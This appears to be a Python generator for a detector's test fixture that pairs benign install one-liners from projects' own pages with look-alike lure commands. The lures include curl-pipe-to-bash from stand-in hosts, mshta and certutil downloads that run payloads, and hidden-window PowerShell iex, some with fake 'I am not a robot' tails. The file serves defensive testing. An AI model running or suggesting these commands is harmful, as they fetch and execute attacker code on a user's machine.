"""Writes tests/data/cases/b6benign.jsonl: installers copied from their own project's page and
entries typed into the Run box or Explorer's address bar that were warned about or blocked
although nothing in them is a lure, each beside the look-alike lures that must stay flagged or
blocked.

    python tests/data/cases/make_b6benign.py

Deterministic. Project names are made up; lure hosts are reserved names (*.test, *.example) or
made-up accounts on real forges. No text is copied from a blind set, a lure collection or
another detector's fixtures. Each line is {id, text, expect, technique, platform, source,
target}.

Principles:

- `plain-http-own`: a project's own page publishing its script over plain http:// from its own
  domain is a weakness (anyone on the path can swap the script), not a lure: a warning, never a
  block. Look-alikes: the same over plain HTTP from a stranger's page, an IP address, a look-alike
  host, a lure tail, a check page, a hidden window, the Run box.
- `checksum-note`: a note after a checksum step (`shasum -a 256 x.sh # verify with hash below`)
  is a real verification, not a fake check's tail. Look-alikes: the same words after a command
  that is no checksum tool, certutil fetching a file, a robot, a human, an ID or 'press Enter' in
  the note.
- `own-repo-name`: a fake check's word inside the name of the page's own repository
  (github.com/<o>/zsh4humans fetching raw.githubusercontent.com/<o>/zsh4humans/…) is the
  project's name, which its page carries. Look-alikes: the word in the file name, a branch, a
  host, another repository's or account's page, the repository's issues, a gist.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b6benign.jsonl")
TERMINAL = "terminal"
TUTORIAL = "https://www.shellnotes.example/how-to-install-tarnwick-on-debian/"
STRANGER = "https://www.harbour-bistro.example/menu/winter"
CHECK_PAGE = "https://verify-human.pages.example/captcha/step2"

# (repository page, the project's own domain) of long-tail projects
FORGE_PROJECTS = [
    ("https://github.com/tarnwick/tarnwick", "tarnwick.dev"),
    ("https://github.com/loamhq/loamdb", "loamdb.io"),
    ("https://gitlab.com/fenwick-tools/fenwick", "fenwick.sh"),
    ("https://github.com/pellet-org/pellet", "pellet.run"),
    ("https://codeberg.org/brindle/brindle", "brindle.cloud"),
    ("https://github.com/quillix/quillix", "quillix.app"),
]
HTTP_SHAPES = [
    "curl -sSL http://install.{d}/install.sh | bash",
    "bash <(curl -fsSL http://get.{d}/setup.sh)",
    "wget -qO- http://{d}/install.sh | sudo sh",
    'sh -c "$(curl -fsSL http://dl.{d}/install)"',
]


def plain_http_own(book: Book) -> None:
    n = 0
    for page, domain in FORGE_PROJECTS:
        for shape in HTTP_SHAPES:
            n += 1
            book.add(
                "plain-http-own", shape.format(d=domain), "suspicious", "linux", TERMINAL, page
            )
    # the project's own site, its docs section
    book.add(
        "plain-http-own",
        "curl -fsSL http://tarnwick.dev/install.sh | sh",
        "suspicious",
        "linux",
        TERMINAL,
        "https://docs.tarnwick.dev/getting-started",
    )
    book.add(
        "plain-http-own",
        "curl -fsSL http://get.loamdb.io | bash",
        "suspicious",
        "linux",
        TERMINAL,
        "https://loamdb.io/docs/install",
    )
    book.add(
        "plain-http-own",
        "iwr http://install.quillix.app/install.ps1 -UseBasicParsing | iex",
        "suspicious",
        "windows",
        TERMINAL,
        "https://github.com/quillix/quillix",
    )
    # look-alikes: plain HTTP from pages that are not the script's
    lure = "plain-http-stranger"
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        STRANGER,
    )
    book.add(
        lure,
        "curl -sSL http://install.loamdb.io/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://203.0.113.44/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://tarnwick-install.test/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://tarnwick.dev.cdn-get.test/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://tarnwick.dev/docs",
    )
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick/issues/41",
    )
    # the project's own domain, but with a lure's trait
    lure = "plain-http-trait"
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash # I am not a robot - Ray ID 8813",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://tarnwick.dev/v.sh | bash",
        "malicious",
        "macos",
        TERMINAL,
        CHECK_PAGE,
    )
    book.add(
        lure,
        'powershell -w hidden -c "iwr http://install.quillix.app/i.ps1 | iex"',
        "malicious",
        "windows",
        TERMINAL,
        "https://github.com/quillix/quillix",
    )
    book.add(
        lure,
        'powershell -c "iwr http://install.quillix.app/i.ps1 | iex"',
        "malicious",
        "windows",
        "run_dialog",
        "https://github.com/quillix/quillix",
    )
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash",
        "malicious",
        "linux",
        "unknown",
        None,
    )


CHECKSUM_OK = [
    (
        "curl -o tarnwick.sh https://tarnwick.github.io/tarnwick.sh\nshasum -a 256 tarnwick.sh # verify with hash below\nbash tarnwick.sh",
        "https://github.com/tarnwick/tarnwick",
    ),
    (
        "curl -fsSLO https://tarnwick.dev/install.sh\nsha256sum install.sh  # verify the checksum against the release page\nsh install.sh",
        "https://tarnwick.dev/docs/install",
    ),
    (
        'curl -fsSLO https://loamdb.io/install.sh\necho "4f2a9c0d1e  install.sh" | sha256sum -c  # verify hash\nbash install.sh',
        "https://loamdb.io/docs/install",
    ),
    (
        "curl -fsSLO https://pellet.run/pellet.sh\ncurl -fsSLO https://pellet.run/pellet.sh.asc\ngpg --verify pellet.sh.asc pellet.sh # verify signature\nsh pellet.sh",
        "https://pellet.run/docs",
    ),
    (
        "iwr https://quillix.app/install.ps1 -OutFile install.ps1\nGet-FileHash .\\install.ps1 # verify the SHA256 hash matches the one below\n.\\install.ps1",
        "https://quillix.app/docs/windows",
    ),
    (
        "curl -fsSLO https://brindle.cloud/install.sh\nsha512sum install.sh # verify: compare with the hash published in the release notes\nbash install.sh",
        "https://brindle.cloud/docs/getting-started",
    ),
    (
        "curl -fsSLO https://fenwick.sh/install.sh\nopenssl dgst -sha256 install.sh # verify hash\nbash install.sh",
        "https://fenwick.sh/",
    ),
    (
        "curl -fsSLO https://tarnwick.dev/install.sh\nb2sum install.sh # verify the digest\nbash install.sh",
        "https://tarnwick.dev/docs/install",
    ),
]


def checksum_note(book: Book) -> None:
    for text, page in CHECKSUM_OK:
        book.add("checksum-note", text, "not_flagged", "linux", TERMINAL, page)
    # the same notes typed bare, with no download: nothing to say
    book.add(
        "checksum-note",
        "shasum -a 256 tarnwick.sh # verify with hash below",
        "not_flagged",
        "linux",
        TERMINAL,
        None,
    )
    book.add(
        "checksum-note",
        "certutil -hashfile setup.exe SHA256 # verify hash",
        "not_flagged",
        "windows",
        TERMINAL,
        None,
    )
    lure = "checksum-note-lure"
    page = "https://github.com/tarnwick/tarnwick"
    # a fake check's words after something that is no checksum step
    book.add(
        lure,
        "mshta https://tarnwick-check.test/a.hta # Verify hash: 4471-AB",
        "malicious",
        "windows",
        "run_dialog",
        "https://www.harbourview-dental.example/",
    )
    book.add(
        lure,
        "certutil -urlcache -f https://quiet-lab.test/a.exe a.exe && a.exe # verify hash 44A1",
        "malicious",
        "windows",
        "run_dialog",
        "https://www.harbourview-dental.example/",
    )
    book.add(
        lure,
        "curl -fsSL https://tarnwick-check.test/x.sh | bash # verification hash 4471",
        "malicious",
        "macos",
        TERMINAL,
        STRANGER,
    )
    # a checksum step with a fake check's words in its note
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nshasum -a 256 t.sh # I am not a robot - verify hash\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nsha256sum t.sh # Verification ID: 8831-2\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nsha256sum t.sh # verify hash, then press Enter\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nshasum t.sh # ✅ verify human hash\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    # a checksum tool and another program on the line of the note
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh; sha256sum t.sh; bash t.sh # verify hash 8841",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        'powershell -w h -c "iwr https://quiet-lab.test/p.ps1|iex" ; Get-FileHash x # verify hash 4471',
        "malicious",
        "windows",
        "run_dialog",
        None,
    )


REPO_NAMES = [
    "dots4humans",
    "humanize-dates",
    "robotcraft",
    "verifyd",
    "validator-kit",
    "cloudflare-ddns",
    "fixerror-linter",
    "checkin-bot",
]
OWNERS = ["marlowe", "tidepool-dev", "kestrelhq", "oakum"]


def own_repo_name(book: Book) -> None:
    shapes = [
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/{o}/{r}/main/install)"',
        "curl -fsSL https://raw.githubusercontent.com/{o}/{r}/HEAD/install.sh | bash",
        "wget -qO- https://github.com/{o}/{r}/releases/latest/download/install.sh | sh",
    ]
    for i, repo in enumerate(REPO_NAMES):
        owner = OWNERS[i % len(OWNERS)]
        shape = shapes[i % len(shapes)]
        book.add(
            "own-repo-name",
            shape.format(o=owner, r=repo),
            "not_flagged",
            "linux",
            TERMINAL,
            f"https://github.com/{owner}/{repo}",
        )
        book.add(
            "own-repo-name",
            shape.format(o=owner, r=repo),
            "not_flagged",
            "linux",
            TERMINAL,
            f"https://github.com/{owner}/{repo}#installation",
        )
    book.add(
        "own-repo-name",
        "curl -fsSL https://gitlab.com/marlowe/robotcraft/-/raw/main/install.sh | bash",
        "not_flagged",
        "linux",
        TERMINAL,
        "https://gitlab.com/marlowe/robotcraft",
    )
    lure = "own-repo-name-lure"
    # the word in a part of the address the repository's name does not explain
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/marlowe/tarnkit/main/verify-human.sh | bash",
        "flagged",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/tarnkit",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/marlowe/tarnkit/captcha/install.sh | bash",
        "flagged",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/tarnkit",
    )
    # another repository's page, another account's page, a stranger's page
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/marlowe/verifyd/main/install | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/tarnkit",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/verify-human/main/run | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/verify-human",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/human-check/main/run | bash",
        "malicious",
        "macos",
        TERMINAL,
        STRANGER,
    )
    # the repository's issues (anyone writes there) and a gist
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/verify-human/main/run | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/oakum/verify-human/issues/7",
    )
    book.add(
        lure,
        "curl -fsSL https://gist.githubusercontent.com/oakum/4f2a9c/raw/human-verify.sh | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://gist.github.com/oakum/4f2a9c",
    )
    # a lure trait besides the name
    book.add(
        lure,
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/oakum/verifyd/main/install)" # I am not a robot',
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/oakum/verifyd",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/verifyd/main/install | bash",
        "flagged",
        "macos",
        "unknown",
        None,
    )


def build() -> list[dict[str, str]]:
    book = Book("b6b")
    plain_http_own(book)
    checksum_note(book)
    own_repo_name(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
